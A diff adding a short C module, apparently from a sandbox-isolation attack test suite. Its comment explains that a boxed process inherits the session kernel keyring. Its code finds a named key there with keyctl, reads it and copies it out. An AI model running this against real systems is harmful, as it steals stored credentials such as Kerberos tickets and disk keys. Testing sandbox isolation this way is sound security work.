@@ -1,0 +1,16 @@
+/*
+ * The kernel keeps keys for programs – Kerberos tickets, the keys of encrypted disks – and whoever is started inherits the session's ring of
+ * them: keyrings(7). No namespace is about that. A box that is started from your session has your keys.
+ */
+#include "attack.h"
+#include <linux/keyctl.h>
+#include <sys/syscall.h>
+
+/* argv: what the key is called, where to put what was found. */
+void keyring(char **argv)
+{
+	char found[256];
+	const long key = must(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0), "find the host's key");
+	const long length = must(syscall(SYS_keyctl, KEYCTL_READ, key, found, sizeof found), "read it");
+	bring_home(argv[1], found, length < (long)sizeof found ? length : (long)sizeof found);
+}
